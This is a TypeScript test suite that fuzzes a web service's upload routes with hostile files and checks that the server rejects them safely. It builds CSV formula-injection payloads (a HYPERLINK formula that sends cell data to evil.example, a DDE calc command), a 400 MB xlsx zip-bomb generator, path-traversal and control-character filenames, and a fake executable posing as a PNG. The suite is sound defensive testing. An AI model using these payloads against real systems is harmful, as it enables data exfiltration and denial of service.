import { createDeflateRaw, deflateRawSync } from 'node:zlib'
import ExcelJS from 'exceljs'
import JSZip from 'jszip'
import { afterAll, beforeAll, describe, expect, it } from 'vitest'
import { allRoutes } from '../../http/app'
import type { Route } from '../../http/route'
import { png } from '../livechat/support'
import * as F from '../support/fixtures'
import { credentialFor, seedWorld, WORLD_ENV, type World, worldPath } from '../support/routeWorld'
import { startTestServer, type TestServer } from '../support/server'

/**
 * Hostile files on every route that takes an upload, generated from the route table: the routes
 * with `multipart` limits and the ones that stream their body (the contacts import). Each gets
 * the world's fixtures in its path, the text fields it needs beside the file (so the file is
 * what it judges), and in turn: a CSV with NUL in a cell, a CSV in UTF-16LE with its BOM, a CSV in
 * Latin-1 (bytes that are not UTF-8), a CSV of formulas, an `.xlsx` whose cells hold NUL and an
 * unpaired surrogate (`_x0000_`, `_xD800_`), a small zip bomb (an `.xlsx` of a few hundred KB
 * whose sheet inflates to 400 MB), a file of zero bytes, files named with path separators,
 * control characters and NUL (raw in the header, and percent-encoded in an RFC 5987
 * `filename*`), and a program (`MZ`) sent as a PNG. Then, per route, a text part beside a
 * harmless file whose bytes are not UTF-8 (the route's own text field where it has one): 422 on
 * that part, never stored with U+FFFD (issue 50 item 1).
 *
 * Properties: no 5xx; a 4xx is the error envelope with a stable `error.code`; a lead import
 * preview that takes a file is followed by its dry run, which must not fail either and refuses
 * the rows a bad cell spoils; the contacts import reports a bad row among its per-row errors; a
 * harmless file is taken by every route (so the hostile ones reach the code that reads files);
 * the server is healthy after each file and after the sweep.
 *
 * Found with it: the lead import preview unpacked the bomb whole in exceljs, holding the node for
 * minutes (now refused on its unpacked size first: actors/pipeline/spreadsheet.ts).
 */

let s: TestServer
let world: World
let session: F.Session

// --- Files -----------------------------------------------------------------------------------

const XLSX = 'application/vnd.openxmlformats-officedocument.spreadsheetml.sheet'
const te = new TextEncoder()
const utf8 = (text: string) => te.encode(text)
const latin1 = (text: string) => new Uint8Array(Buffer.from(text, 'latin1'))

interface Upload {
  readonly name: string
  /** The `Content-Disposition` parameter that names the file, as sent (raw bytes allowed). */
  readonly filename: Uint8Array
  readonly type: string
  readonly bytes: Uint8Array
  /** The name is the hostile part: a file taken keeps none of its separators or control characters. */
  readonly hostileName?: true
}

const quoted = (name: string) => utf8(`filename="${name}"`)

const CSV_NUL = utf8('name,phone,email\nAn\u0000a,+6281100000001,nul@example.com\nFine,+6281100000002,\n')
const CSV_UTF16 = (() => {
  const text = 'name,phone,email\nJosé Café,+6281100000003,jose@example.com\n'
  return new Uint8Array([0xff, 0xfe, ...Buffer.from(text, 'utf16le')])
})()
const CSV_LATIN1 = latin1('name,phone,email\nJosé Café,+6281100000004,cafe@example.com\n')
const CSV_FORMULAS = utf8(
  [
    'name,phone,email',
    '"=HYPERLINK(""http://evil.example/?x=""&A1,""click"")",+6281100000005,f1@example.com',
    '+SUM(1;2),+6281100000006,f2@example.com',
    '-1+1,+6281100000007,f3@example.com',
    `"@cmd|' /C calc'!A0",+6281100000008,f4@example.com`,
    '"=1+1",+6281100000009,"=2+2@example.com"',
    '',
  ].join('\n'),
)
const CSV_PLAIN = utf8('name,phone,email\nPlain,+6281100000010,plain@example.com\n')
/** The start of a Windows program: the DOS header and its stub's message. */
const PROGRAM = (() => {
  const b = new Uint8Array(1024)
  b.set([0x4d, 0x5a, 0x90, 0x00, 0x03, 0x00, 0x00, 0x00, 0x04, 0x00, 0x00, 0x00, 0xff, 0xff])
  b.set(utf8('This program cannot be run in DOS mode.\r\r\n$'), 0x4e)
  b.set([0x50, 0x45, 0x00, 0x00], 0x80)
  return b
})()

/** A workbook whose cells carry the escapes a spreadsheet program writes for NUL and a lone surrogate. */
const xlsxWithBadCells = async () => {
  const book = new ExcelJS.Workbook()
  const ws = book.addWorksheet('Leads')
  for (const row of [
    ['Title', 'Contact Name', 'Phone'],
    ['Deal @NUL@ one', 'Andi', '+6281100000011'],
    ['Deal two', 'Nul @SUR@ Y', '+6281100000012'],
    ['Deal fine', 'Citra', '+6281100000013'],
  ])
    ws.addRow(row)
  const zip = await JSZip.loadAsync((await book.xlsx.writeBuffer()) as ArrayBuffer)
  const shared = 'xl/sharedStrings.xml'
  const xml = await zip.file(shared)!.async('string')
  zip.file(shared, xml.replaceAll('@NUL@', '_x0000_').replaceAll('@SUR@', '_xD800_'))
  return new Uint8Array(await zip.generateAsync({ type: 'uint8array', compression: 'DEFLATE' }))
}

// A zip written by hand, so one entry can be deflated as it is made (hundreds of MB never held).
const CRC_TABLE = Uint32Array.from({ length: 256 }, (_, n) => {
  let c = n
  for (let k = 0; k < 8; k++) c = c & 1 ? 0xedb88320 ^ (c >>> 1) : c >>> 1
  return c >>> 0
})
const crcUpdate = (crc: number, b: Uint8Array) => {
  let c = crc ^ 0xffffffff
  for (let i = 0; i < b.length; i++) c = CRC_TABLE[(c ^ b[i]!) & 0xff]! ^ (c >>> 8)
  return (c ^ 0xffffffff) >>> 0
}

interface Entry {
  readonly name: string
  readonly crc: number
  readonly size: number
  readonly deflated: Buffer
}
const entryOf = (name: string, text: string): Entry => {
  const raw = utf8(text)
  return { name, crc: crcUpdate(0, raw), size: raw.length, deflated: deflateRawSync(raw) }
}
/** An entry made of `head`, `unit` `times` over, and `tail`, deflated as a stream. */
const repeatedEntry = async (name: string, head: string, unit: string, times: number, tail: string) => {
  const deflate = createDeflateRaw({ level: 9 })
  const out: Buffer[] = []
  deflate.on('data', (c: Buffer) => out.push(c))
  const ended = new Promise((resolve) => deflate.on('end', resolve))
  let crc = 0
  let size = 0
  const write = async (b: Uint8Array) => {
    crc = crcUpdate(crc, b)
    size += b.length
    if (!deflate.write(b)) await new Promise((resolve) => deflate.once('drain', resolve))
  }
  await write(utf8(head))
  // A block of units at a time: a few hundred writes, not millions.
  const per = Math.max(1, Math.floor((1024 * 1024) / unit.length))
  const block = utf8(unit.repeat(per))
  for (let done = 0; done < times; done += per)
    await write(done + per <= times ? block : utf8(unit.repeat(times - done)))
  await write(utf8(tail))
  deflate.end()
  await ended
  return { name, crc, size, deflated: Buffer.concat(out) } satisfies Entry
}
const zipOf = (entries: readonly Entry[]) => {
  const locals: Buffer[] = []
  const centrals: Buffer[] = []
  let offset = 0
  for (const e of entries) {
    const name = Buffer.from(e.name, 'utf8')
    const local = Buffer.alloc(30)
    local.writeUInt32LE(0x04034b50, 0)
    local.writeUInt16LE(20, 4)
    local.writeUInt16LE(8, 8)
    local.writeUInt32LE(e.crc, 14)
    local.writeUInt32LE(e.deflated.length, 18)
    local.writeUInt32LE(e.size, 22)
    local.writeUInt16LE(name.length, 26)
    const central = Buffer.alloc(46)
    central.writeUInt32LE(0x02014b50, 0)
    central.writeUInt16LE(20, 4)
    central.writeUInt16LE(20, 6)
    central.writeUInt16LE(8, 10)
    central.writeUInt32LE(e.crc, 16)
    central.writeUInt32LE(e.deflated.length, 20)
    central.writeUInt32LE(e.size, 24)
    central.writeUInt16LE(name.length, 28)
    central.writeUInt32LE(offset, 42)
    locals.push(local, name, e.deflated)
    centrals.push(central, name)
    offset += local.length + name.length + e.deflated.length
  }
  const directory = Buffer.concat(centrals)
  const end = Buffer.alloc(22)
  end.writeUInt32LE(0x06054b50, 0)
  end.writeUInt16LE(entries.length, 8)
  end.writeUInt16LE(entries.length, 10)
  end.writeUInt32LE(directory.length, 12)
  end.writeUInt32LE(offset, 16)
  return new Uint8Array(Buffer.concat([...locals, directory, end]))
}

const NS = 'http://schemas.openxmlformats.org/spreadsheetml/2006/main'
const REL = 'http://schemas.openxmlformats.org/officeDocument/2006/relationships'
const PKG = 'http://schemas.openxmlformats.org/package/2006'
/** Uncompressed size of the bomb's sheet: far past any sheet of `MAX_ROWS` rows a person keeps. */
const BOMB_BYTES = 400 * 1024 * 1024
/**
 * An `.xlsx` of a few hundred KB whose one sheet inflates to `BOMB_BYTES`: two rows around a run
 * of white space (which XML ignores). One deflate layer gives about 1000:1 at best, and only on a
 * run of one byte; a pattern of rows would give a few hundred to one.
 */
const zipBomb = async () => {
  const row = (n: number) => `<row r="${n}"><c r="A${n}" t="inlineStr"><is><t>Deal ${n}</t></is></c></row>`
  return zipOf([
    entryOf(
      '[Content_Types].xml',
      `<?xml version="1.0" encoding="UTF-8"?><Types xmlns="${PKG}/content-types"><Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/><Default Extension="xml" ContentType="application/xml"/><Override PartName="/xl/workbook.xml" ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"/><Override PartName="/xl/worksheets/sheet1.xml" ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.worksheet+xml"/></Types>`,
    ),
    entryOf(
      '_rels/.rels',
      `<?xml version="1.0" encoding="UTF-8"?><Relationships xmlns="${PKG}/relationships"><Relationship Id="rId1" Type="${REL}/officeDocument" Target="xl/workbook.xml"/></Relationships>`,
    ),
    entryOf(
      'xl/workbook.xml',
      `<?xml version="1.0" encoding="UTF-8"?><workbook xmlns="${NS}" xmlns:r="${REL}"><sheets><sheet name="Deals" sheetId="1" r:id="rId1"/></sheets></workbook>`,
    ),
    entryOf(
      'xl/_rels/workbook.xml.rels',
      `<?xml version="1.0" encoding="UTF-8"?><Relationships xmlns="${PKG}/relationships"><Relationship Id="rId1" Type="${REL}/worksheet" Target="worksheets/sheet1.xml"/></Relationships>`,
    ),
    await repeatedEntry(
      'xl/worksheets/sheet1.xml',
      `<?xml version="1.0" encoding="UTF-8"?><worksheet xmlns="${NS}"><sheetData><row r="1"><c r="A1" t="inlineStr"><is><t>Title</t></is></c></row>${row(2)}`,
      ' ',
      BOMB_BYTES,
      `${row(3)}</sheetData></worksheet>`,
    ),
  ])
}

let HOSTILE: Upload[] = []
let bombBytes = 0

// --- Routes ----------------------------------------------------------------------------------

/** Every route that takes a file: multipart limits, or a body it streams (the contacts import). */
const uploadRoutes = allRoutes().filter((r) => r.multipart !== undefined || r.streamBody !== undefined)

/**
 * The field a route reads its file from, as its summary names it (`multipart `file``, `files[]`,
 * `receipt`, `icon`); a streamed import reads `file`.
 */
const fileField = (r: Route) => {
  const named = /multipart[^`]*`([\w[\]]+)`/i.exec(r.summary)?.[1]
  if (named) return named
  if (r.streamBody) return 'file'
  throw new Error(`test/http/fuzzFiles.test.ts: say which field ${r.method} ${r.path} reads its file from`)
}

let unique = 0
/**
 * Text fields a route needs beside its file, so that the file is what it judges (a route missing
 * here gets none, and the harmless-file check below says so).
 */
const fieldsFor = (r: Route): Record<string, string> => {
  unique++
  switch (`${r.method} ${r.path}`) {
    case 'POST /v1/templates':
      return { name: `Fuzz file ${unique}`, body: 'Hello' }
    case 'POST /v1/tickets/{id}/messages':
      return { body: `Fuzz file ${unique}` }
    case 'POST /v1/leads/{id}/expenses':
      return { category: 'Transport', amount: '10' }
    case 'POST /v1/livechat/{key}/messages':
      return { client_id: `fuzz-file-${unique}` }
    default:
      return {}
  }
}

const multipartBody = (fields: Record<string, string>, field: string, file: Upload) => {
  const boundary = `----kotak-fuzz-files-${unique}-${Date.now()}`
  const parts: Uint8Array[] = []
  for (const [k, v] of Object.entries(fields))
    parts.push(utf8(`--${boundary}\r\nContent-Disposition: form-data; name="${k}"\r\n\r\n${v}\r\n`))
  parts.push(
    utf8(`--${boundary}\r\nContent-Disposition: form-data; name="${field}"; `),
    file.filename,
    utf8(`\r\nContent-Type: ${file.type}\r\n\r\n`),
    file.bytes,
    utf8(`\r\n--${boundary}--\r\n`),
  )
  return { body: Buffer.concat(parts), contentType: `multipart/form-data; boundary=${boundary}` }
}

const ENVELOPE = /^\{"error":\{"code":"[a-z_]+","message":"/

interface Got {
  readonly status: number
  readonly text: string
  readonly json: { data?: Record<string, unknown>; error?: { code: string; fields?: Record<string, string> } }
}

const upload = async (r: Route, file: Upload): Promise<Got> => {
  const { body, contentType } = multipartBody(fieldsFor(r), fileField(r), file)
  const headers = { ...credentialFor(r, world, session), 'content-type': contentType }
  const res = await s.fetch(worldPath(r, world), { method: r.method, headers, body })
  const text = await res.text()
  let json: Got['json'] = {}
  try {
    json = JSON.parse(text)
  } catch {}
  return { status: res.status, text, json }
}

const pipelineId = async () => {
  const res = await s.fetch('/v1/pipelines', { headers: session.headers() })
  return ((await res.json()) as { data: Array<{ id: number }> }).data[0]!.id
}

/** The dry run of a lead import the preview took, into the world's pipeline. */
const dryRun = async (token: unknown) =>
  s.fetch(
    '/v1/leads/import',
    F.json({ token, pipeline_id: await pipelineId(), dry_run: true }, session.headers()),
  )

/** What each route answered each file, for the report at the end. */
const answers: string[] = []

beforeAll(async () => {
  s = await startTestServer(WORLD_ENV)
  world = await seedWorld(s)
  session = world.owner
  // The world's chat takes images only; files of every kind let the documents reach its checks.
  const channels = await s.fetch('/v1/channels', { headers: session.headers() })
  const chat = ((await channels.json()) as { data: Array<{ id: number }> }).data.find((c) =>
    JSON.stringify(c).includes(world.livechatKey),
  )
  expect(chat, 'the world’s live chat').toBeDefined()
  const patched = await s.fetch(`/v1/channels/${chat!.id}/livechat`, {
    ...F.json({ attachments: 'files' }, session.headers()),
    method: 'PATCH',
  })
  expect(patched.status, await patched.text()).toBe(200)
  const bomb = await zipBomb()
  bombBytes = bomb.length
  HOSTILE = [
    { name: 'CSV with NUL in a cell', filename: quoted('nul.csv'), type: 'text/csv', bytes: CSV_NUL },
    { name: 'CSV in UTF-16LE with BOM', filename: quoted('utf16.csv'), type: 'text/csv', bytes: CSV_UTF16 },
    { name: 'CSV in Latin-1', filename: quoted('latin1.csv'), type: 'text/csv', bytes: CSV_LATIN1 },
    { name: 'CSV of formulas', filename: quoted('formulas.csv'), type: 'text/csv', bytes: CSV_FORMULAS },
    {
      name: 'xlsx with NUL and an unpaired surrogate',
      filename: quoted('cells.xlsx'),
      type: XLSX,
      bytes: await xlsxWithBadCells(),
    },
    { name: 'xlsx zip bomb', filename: quoted('bomb.xlsx'), type: XLSX, bytes: bomb },
    { name: 'zero bytes', filename: quoted('empty.csv'), type: 'text/csv', bytes: new Uint8Array(0) },
    {
      name: 'name with separators, a tab and a Latin-1 byte',
      filename: new Uint8Array([
        ...utf8('filename="..\\..\\/etc/pass'),
        0x09,
        0xe9,
        ...utf8('\u202ewd.csv"'),
      ]),
      type: 'text/csv',
      bytes: CSV_PLAIN,
      hostileName: true,
    },
    {
      name: 'name with control characters',
      filename: new Uint8Array([
        ...utf8('filename="../a'),
        0x01,
        0x1b,
        ...utf8('[31m'),
        0x7f,
        ...utf8('b.csv"'),
      ]),
      type: 'text/csv',
      bytes: CSV_PLAIN,
      hostileName: true,
    },
    {
      name: 'name with a raw NUL',
      filename: new Uint8Array([...utf8('filename="../a'), 0x00, ...utf8('b.csv"')]),
      type: 'text/csv',
      bytes: CSV_PLAIN,
      hostileName: true,
    },
    {
      name: 'filename* with separators, NUL and a bad sequence',
      filename: utf8("filename*=UTF-8''..%2F..%5Cetc%2Fa%00b%0D%0A%ED%A0%80%E2%80%AE.csv"),
      type: 'text/csv',
      bytes: CSV_PLAIN,
      hostileName: true,
    },
    { name: 'a program sent as a PNG', filename: quoted('photo.png'), type: 'image/png', bytes: PROGRAM },
  ]
}, 180_000)
afterAll(() => {
  if (answers.length > 0) console.log(`fuzzFiles answers:\n${answers.join('\n')}`)
  return s?.stop()
})

describe('hostile files on every route that takes an upload', () => {
  it('finds the upload routes: multipart and streamed, of every area that takes files', () => {
    const paths = uploadRoutes.map((r) => `${r.method} ${r.path}`)
    expect(paths).toEqual(
      expect.arrayContaining([
        'POST /v1/contacts/import',
        'POST /v1/leads/import/preview',
        'POST /v1/channels/{id}/icon',
        'POST /v1/livechat/{key}/messages',
        'POST /v1/interactions/{id}/messages',
      ]),
    )
    expect(uploadRoutes.length).toBeGreaterThanOrEqual(11)
  })

  it('the bomb is small and inflates to hundreds of MB', () => {
    expect(bombBytes).toBeLessThan(1024 * 1024)
    expect(BOMB_BYTES).toBeGreaterThanOrEqual(300 * 1024 * 1024)
  })

  it.each(
    uploadRoutes.map((r) => [`${r.method} ${r.path} (${r.access}, field ${fileField(r)})`, r] as const),
  )(
    '%s',
    async (_, r) => {
      // A harmless file first (a CSV, or a PNG where the route takes only images): the route takes
      // it, so the hostile ones below reach the code that reads files.
      const harmless: Upload[] = [
        { name: 'harmless CSV', filename: quoted('plain.csv'), type: 'text/csv', bytes: CSV_PLAIN },
        { name: 'harmless PNG', filename: quoted('icon.png'), type: 'image/png', bytes: png(64, 64) },
      ]
      const taken: string[] = []
      for (const file of harmless) {
        const got = await upload(r, file)
        answers.push(`${r.method} ${r.path} | ${file.name} | ${got.status} ${got.json.error?.code ?? ''}`)
        expect(
          got.status,
          `${file.name}: ${r.method} ${r.path} → ${got.status} ${got.text.slice(0, 300)}`,
        ).toBeLessThan(500)
        if (got.status < 300) taken.push(file.name)
      }
      expect(taken, `${r.method} ${r.path} takes no harmless file`).not.toEqual([])
      for (const file of HOSTILE) {
        const got = await upload(r, file)
        const where = `${file.name}: ${r.method} ${r.path} → ${got.status} ${got.text.slice(0, 400)}`
        const fields = got.json.error?.fields ? ` ${JSON.stringify(got.json.error.fields).slice(0, 160)}` : ''
        answers.push(
          `${r.method} ${r.path} | ${file.name} | ${got.status} ${got.json.error?.code ?? ''}${fields}`,
        )
        expect(got.status, where).toBeLessThan(500)
        if (got.status >= 400) {
          expect(got.text, where).toMatch(ENVELOPE)
        } else if (file.hostileName) {
          expect(got.text, `a name kept its separators: ${where}`).not.toMatch(/etc[/\\]|\.\.[/\\]/)
          expect(got.text, `a name kept a control character: ${where}`).not.toMatch(
            /\\u00[01][0-9a-f]|\\u007f/i,
          )
        }
        if (got.status < 300 && r.path === '/v1/leads/import/preview') {
          // The preview took it: its dry run reads every row and must refuse the spoilt ones.
          const run = await dryRun(got.json.data?.token)
          const text = await run.text()
          answers.push(`POST /v1/leads/import (dry run) | ${file.name} | ${run.status} ${text.slice(0, 160)}`)
          expect(run.status, `the dry run of ${where}: ${text.slice(0, 400)}`).toBeLessThan(500)
        }
        // The server still answers at once (a bomb that took it down would fail here).
        expect((await s.fetch('/healthz')).status, `after ${where}`).toBe(200)
      }
    },
    120_000,
  )

  it('the contacts import reports the NUL row among its per-row errors and imports the other', async () => {
    const r = uploadRoutes.find((x) => x.path === '/v1/contacts/import')!
    const got = await upload(r, HOSTILE[0]!)
    expect(got.status, got.text).toBe(200)
    const errors = got.json.data?.errors as Array<{ line: number; field: string | null; code: string }>
    expect(errors).toEqual([expect.objectContaining({ line: 2, field: 'name', code: 'field.characters' })])
  })

  it('a lead import of cells holding NUL or a lone surrogate refuses those rows in its dry run', async () => {
    const r = uploadRoutes.find((x) => x.path === '/v1/leads/import/preview')!
    const pv = await upload(r, HOSTILE[4]!)
    expect(pv.status, pv.text).toBe(200)
    const run = await dryRun(pv.json.data?.token)
    const body = (await run.json()) as { data: { rows: Array<{ line: number; action: string }> } }
    expect(run.status, JSON.stringify(body)).toBe(200)
    expect(body.data.rows.filter((x) => x.action === 'refuse').map((x) => x.line)).toEqual([2, 3])
  })

  it('a zip bomb is refused on its unpacked size, before it is unpacked whole, at once', async () => {
    const r = uploadRoutes.find((x) => x.path === '/v1/leads/import/preview')!
    const started = Date.now()
    const got = await upload(r, HOSTILE.find((f) => f.name === 'xlsx zip bomb')!)
    expect(got.status, got.text).toBe(422)
    expect(got.json.error?.fields).toEqual({
      file: 'unpacks to more than 50 MB; split it into several files',
    })
    expect(Date.now() - started).toBeLessThan(10_000)
  })

  it.each(
    uploadRoutes.map((r) => [`${r.method} ${r.path} (${r.access}, field ${fileField(r)})`, r] as const),
  )(
    'a text part beside the file whose bytes are not UTF-8: %s',
    async (_, r) => {
      // The route's own text field where it has one (else a part it does not read), carrying a
      // stray byte pair: a 422 naming that part, never the text stored with U+FFFD in it (busboy
      // decodes leniently; issue 50 item 1). The streamed contacts import skips parts it does not
      // read (its options come in the query), so there the file alone is judged.
      const fields = fieldsFor(r)
      const [part, value] = Object.entries(fields)[0] ?? ['note', 'Fuzz']
      const rest = Object.fromEntries(Object.entries(fields).filter(([k]) => k !== part))
      const image: Upload = {
        name: 'PNG',
        filename: quoted('icon.png'),
        type: 'image/png',
        bytes: png(64, 64),
      }
      const built = multipartBody(rest, fileField(r), image)
      const boundary = /boundary=(.+)$/.exec(built.contentType)![1]!
      const bad = Buffer.concat([
        utf8(`--${boundary}\r\nContent-Disposition: form-data; name="${part}"\r\n\r\n${value} `),
        new Uint8Array([0xff, 0xfe]),
        utf8(' x\r\n'),
      ])
      const headers = { ...credentialFor(r, world, session), 'content-type': built.contentType }
      const res = await s.fetch(worldPath(r, world), {
        method: r.method,
        headers,
        body: Buffer.concat([bad, built.body]),
      })
      const text = await res.text()
      const where = `${r.method} ${r.path} → ${res.status} ${text.slice(0, 300)}`
      answers.push(`${r.method} ${r.path} | text part ${part} not UTF-8 | ${res.status}`)
      expect(res.status, where).toBeLessThan(500)
      if (r.streamBody) return
      expect(res.status, where).toBe(422)
      const json = JSON.parse(text) as { error: { code: string; fields: Record<string, string> } }
      expect(json.error.code, where).toBe('validation_error')
      expect(json.error.fields, where).toEqual({ [part]: 'is not UTF-8 text' })
    },
    60_000,
  )

  it('the server is healthy after the sweep', async () => {
    const res = await s.fetch('/healthz')
    expect(res.status, await res.text()).toBe(200)
  })
})
